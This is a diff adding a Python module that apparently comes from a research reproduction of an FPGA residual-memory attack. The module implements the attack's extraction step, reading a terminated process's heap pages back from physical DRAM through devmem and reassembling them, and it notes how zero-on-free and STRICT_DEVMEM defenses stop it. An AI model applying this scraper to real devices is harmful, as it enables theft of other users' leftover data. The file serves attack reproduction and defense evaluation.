@@ -1,0 +1,118 @@
+"""Step 3 — data extraction from physical addresses after termination.
+
+"Once the targeted process is terminated or disconnected, the
+adversary proceeds to access and read the contents of the previously
+derived physical address locations within the FPGA's DRAM" (§III).
+
+The scraper replays the snapshotted translations through ``devmem``.
+On the vulnerable kernel the bytes come back exactly as the victim
+left them; under the zero-on-free defense the same reads return the
+scrub pattern, and under ``STRICT_DEVMEM`` they raise — both outcomes
+flow into the defense evaluation.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+
+from repro.attack.addressing import HarvestedRange
+from repro.attack.config import AttackConfig
+from repro.errors import ExtractionError, PermissionDeniedError
+from repro.mmu.paging import PAGE_SIZE
+from repro.petalinux.devmem import Devmem
+from repro.petalinux.users import User
+from repro.utils.bitfield import words_to_bytes
+from repro.utils.hexdump import HexDump
+
+
+@dataclass
+class ScrapedDump:
+    """The reassembled heap image of a terminated process."""
+
+    pid: int
+    heap_start: int
+    data: bytes
+    pages_read: int
+    pages_skipped: int
+    devmem_reads: int
+    hexdump: HexDump = field(init=False)
+
+    def __post_init__(self) -> None:
+        self.hexdump = HexDump(self.data)
+
+    @property
+    def nbytes(self) -> int:
+        """Dump size in bytes."""
+        return len(self.data)
+
+    def virtual_address_of(self, dump_offset: int) -> int:
+        """Map a dump offset back to the victim's virtual address."""
+        if not 0 <= dump_offset < len(self.data):
+            raise ValueError(f"offset {dump_offset} outside dump")
+        return self.heap_start + dump_offset
+
+
+class MemoryScraper:
+    """Replays harvested translations through the devmem tool."""
+
+    def __init__(
+        self, devmem: Devmem, caller: User, config: AttackConfig | None = None
+    ) -> None:
+        self._devmem = devmem
+        self._caller = caller
+        self._config = config or AttackConfig()
+
+    def _read_page(self, physical_address: int) -> tuple[bytes, int]:
+        """One page of physical memory; returns (bytes, devmem call count)."""
+        if self._config.bulk_reads:
+            return (
+                self._devmem.read_bytes(physical_address, PAGE_SIZE, self._caller),
+                1,
+            )
+        word_bytes = self._config.word_bits // 8
+        words = self._devmem.read_range(
+            physical_address, PAGE_SIZE, self._caller, self._config.word_bits
+        )
+        return words_to_bytes(words, word_bytes), len(words)
+
+    def scrape(self, harvested: HarvestedRange) -> ScrapedDump:
+        """Read every snapshotted heap page and reassemble the dump.
+
+        Pages that were non-present at harvest time are filled with
+        zeros so dump offsets stay congruent with heap offsets — the
+        property the profiled image offset depends on.
+
+        Raises :class:`~repro.errors.ExtractionError` when /dev/mem is
+        closed to the attacker (the STRICT_DEVMEM defense).
+        """
+        chunks: list[bytes] = []
+        pages_read = 0
+        pages_skipped = 0
+        devmem_reads = 0
+        try:
+            for entry in harvested.translations:
+                if not entry.present:
+                    chunks.append(b"\x00" * PAGE_SIZE)
+                    pages_skipped += 1
+                    continue
+                page_bytes, calls = self._read_page(entry.physical_page_address)
+                chunks.append(page_bytes)
+                pages_read += 1
+                devmem_reads += calls
+        except PermissionDeniedError as error:
+            raise ExtractionError(
+                f"devmem blocked while scraping pid {harvested.pid}: {error}"
+            ) from error
+        return ScrapedDump(
+            pid=harvested.pid,
+            heap_start=harvested.heap_start,
+            data=b"".join(chunks),
+            pages_read=pages_read,
+            pages_skipped=pages_skipped,
+            devmem_reads=devmem_reads,
+        )
+
+    def spot_check(self, harvested: HarvestedRange, virtual_address: int) -> int:
+        """Single ``devmem`` read at one heap VA (the Fig. 10 artifact)."""
+        physical = harvested.physical_of(virtual_address)
+        return self._devmem.read(physical, self._caller, self._config.word_bits)
